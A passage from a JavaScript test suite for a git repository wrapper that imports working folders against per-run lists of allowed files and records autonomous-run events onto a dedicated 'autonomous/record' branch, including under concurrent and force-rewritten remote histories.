      expect(files).toEqual([{ path: 'src/user.js', status: 'added', additions: 1, deletions: 0 }]);
      expect(tree).toBe(await repository.writeFiles(project, baseTree, { 'src/user.js': 'export {};\n' }));
      await expect(repository.checkout(project, baseTree, work, [])).rejects.toThrow(/is not empty/);
    });

    it('takes only changes that each list of allowed files has, and any without a list', async () => {
      const { repository, project, root } = fixture;
      const baseTree = await repository.treeOf(project, await mainHead(fixture));
      const work = join(root, 'work');
      await repository.checkout(project, baseTree, work, []);
      write(work, { 'README.md': 'mine\n', 'src/cart.js': 'mine\n', 'src/new.js': 'new\n', 'other.js': 'new\n' });
      const request = { folder: work, baseTree, excludePaths: [] };
      const allowedFiles = [
        { changes: ['src/*'], newFiles: ['other.js'] },
        { changes: ['README.md', 'src/cart.js'], newFiles: ['src/new.js'] },
      ];
      const { tree, refused } = await repository.importFolder({ ...project, allowedFiles }, request);
      expect(tree).toBe(
        await repository.writeFiles(project, baseTree, { 'src/cart.js': 'mine\n', 'src/new.js': 'new\n' }),
      );
      expect(refused.map(({ path }) => path)).toEqual(['README.md', 'other.js']);
      expect((await repository.importFolder(project, request)).files).toHaveLength(4);
    });

    it('takes no file in the place of a folder with files that the run may not change', async () => {
      const { repository, project, root } = fixture;
      const baseTree = await repository.treeOf(project, await mainHead(fixture));
      const work = join(root, 'work');
      await repository.checkout(project, baseTree, work, []);
      rmSync(join(work, 'src'), { recursive: true });
      write(work, { src: 'a file\n' });
      const allowedFiles = [{ changes: ['src'], newFiles: [], forbidden: ['src/cart.js'] }];
      const request = { folder: work, baseTree, excludePaths: [] };
      const { tree, refused } = await repository.importFolder({ ...project, allowedFiles }, request);
      expect(refused.map(({ path }) => path)).toContain('src');
      expect(await repository.listFiles(project, tree)).toContain('src/cart.js');
    });

    it('records onto a branch of its own, keeps what is not named and commits nothing twice', async () => {
      const { repository, project, remote } = fixture;
      const first = await repository.record(project, {
        files: { '.autonomous/runs/r1/events.jsonl': '1\n' },
        message: 'Record r1',
      });
      expect(first.pushed).toBe(true);
      expect(git(remote, 'rev-list', '--count', 'autonomous/record')).toBe('1');
      const second = await repository.record(project, {
        files: { '.autonomous/runs/r2/events.jsonl': '2\n' },
        message: 'Record r2',
      });
      expect(
        await repository.record(project, {
          files: { '.autonomous/runs/r2/events.jsonl': '2\n' },
          message: 'Record r2',
        }),
      ).toEqual(second);
      expect(git(remote, 'rev-parse', 'autonomous/record')).toBe(second.commit);
      expect(await repository.listFiles(project, 'autonomous/record')).toEqual([
        '.autonomous/runs/r1/events.jsonl',
        '.autonomous/runs/r2/events.jsonl',
      ]);
      expect(await repository.isAncestor(project, first.commit, second.commit)).toBe(true);
    });

    it('records many batches at once without losing one', async () => {
      const { repository, project } = fixture;
      const paths = Array.from({ length: 6 }, (_, index) => `.autonomous/runs/r${index}/events.jsonl`);
      await Promise.all(
        paths.map((path) => repository.record(project, { files: { [path]: path }, message: 'Record' })),
      );
      expect(await repository.listFiles(project, 'autonomous/record')).toEqual(paths);
    });

    it('rebuilds its record on top of what another server wrote', async () => {
      const { repository, project, remote } = fixture;
      await repository.record(project, { files: { 'a.jsonl': 'a1' }, message: 'Record' });
      commitOnRemote(remote, 'autonomous/record', { 'b.jsonl': 'theirs' });
      const { commit, pushed } = await repository.record(project, { files: { 'c.jsonl': 'c1' }, message: 'Record' });
      expect(pushed).toBe(true);
      expect(git(remote, 'rev-parse', 'autonomous/record')).toBe(commit);
      expect(await repository.listFiles(project, commit)).toEqual(['a.jsonl', 'b.jsonl', 'c.jsonl']);
      git(remote, 'branch', '-D', 'autonomous/record');
      expect((await repository.record(project, { files: { 'd.jsonl': 'd1' }, message: 'Record' })).pushed).toBe(true);
      expect(git(remote, 'ls-tree', '--name-only', 'autonomous/record').split('\n')).toEqual([
        'a.jsonl',
        'b.jsonl',
        'c.jsonl',
        'd.jsonl',
      ]);
    });

    it('brings commits and trees of runs along with its record, and no branch of theirs', async () => {
      const { repository, project, remote } = fixture;
      const base = await mainHead(fixture);
      const baseTree = await repository.treeOf(project, base);
      const inCommit = await repository.writeFiles(project, baseTree, { 'src/feature.js': 'feature\n' });
      const loose = await repository.writeFiles(project, baseTree, { 'src/loose.js': 'loose\n' });
      const branch = 'autonomous/r1-feature';
      const request = { branch, tree: inCommit, parent: base, message: 'Feature', effectKey: 'r1/1/commit', at: AT };
      const head = await repository.commit(project, request);
      const objects = await repository.gather(project, [loose, head, base, '0'.repeat(40)]);
      expect(objects).not.toBeNull();
      expect(await repository.gather(project, [base, head, loose])).toBe(objects);
      expect(await repository.gather(project, ['0'.repeat(40)])).toBeNull();
      const commits = objects === null ? [] : [objects];
      const files = {
        '.autonomous/runs/r1/events.jsonl': '1\n',
        '.autonomous/runs/r1/files/a': Buffer.from([0, 255, 10]),
      };
      const first = await repository.record(project, { files, commits, message: 'Record r1' });
      expect(await repository.record(project, { files, commits, message: 'Record r1' })).toEqual(first);

      const clone = join(fixture.root, 'clone.git');
      git(
        fixture.root,
        'clone',
        '--quiet',
        '--bare',
        '--single-branch',
        '--branch',
        'autonomous/record',
        remote,
        clone,
      );
      expect(git(clone, 'show', `${head}:src/feature.js`)).toBe('feature');
      expect(git(clone, 'show', `${loose}:src/loose.js`)).toBe('loose');
      expect(git(clone, 'cat-file', '-s', 'autonomous/record:.autonomous/runs/r1/files/a')).toBe('3');
      expect(git(remote, 'branch', '--list', branch)).toBe('');
      // A push of the run's branch still shows others something new.
      expect((await repository.newHistory(project, head)).commits.map(({ id }) => id)).toEqual([head]);
      expect((await repository.newHistory(project, head, 'record')).commits).toEqual([]);
    });

    it('brings them along on top of what another server wrote, also where that shares their base', async () => {
      const { repository, project, remote } = fixture;
      const base = await mainHead(fixture);
      await repository.record(project, { files: { 'a.jsonl': 'a1' }, message: 'Record' });
      const tree = await repository.writeFiles(project, await repository.treeOf(project, base), { 'b.js': 'b\n' });
      const request = { branch: 'autonomous/r1-b', tree, parent: base, message: 'B', effectKey: 'r1/1/c', at: AT };
      const head = await repository.commit(project, request);
      const theirs = commitOnRemote(remote, 'autonomous/record', { 'b.jsonl': 'theirs' });
      const merged = git(remote, 'commit-tree', '-m', 'Record', '-p', theirs, '-p', base, `${theirs}^{tree}`);
      git(remote, 'update-ref', 'refs/heads/autonomous/record', merged);
      const objects = await repository.gather(project, [head]);
      const { commit } = await repository.record(project, {
        files: { 'c.jsonl': 'c1' },
        commits: objects === null ? [] : [objects],
        message: 'Record',
      });
      expect(git(remote, 'rev-parse', 'autonomous/record')).toBe(commit);
      expect(await repository.listFiles(project, commit)).toEqual(['a.jsonl', 'b.jsonl', 'c.jsonl']);
      expect(await repository.isAncestor(project, head, commit)).toBe(true);
      // The branch was rewritten by force: its own part is written again, with the commits of runs.
      git(remote, 'update-ref', 'refs/heads/autonomous/record', theirs);
      commitOnRemote(remote, 'autonomous/record', { 'e.jsonl': 'theirs' });
      const again = await repository.record(project, { files: { 'd.jsonl': 'd1' }, message: 'Record' });
      expect(git(remote, 'rev-parse', 'autonomous/record')).toBe(again.commit);
      expect(await repository.listFiles(project, again.commit)).toEqual([
        'a.jsonl',
        'b.jsonl',
        'c.jsonl',
        'd.jsonl',
        'e.jsonl',
      ]);
      expect(await repository.isAncestor(project, head, again.commit)).toBe(true);
    });
  });
}
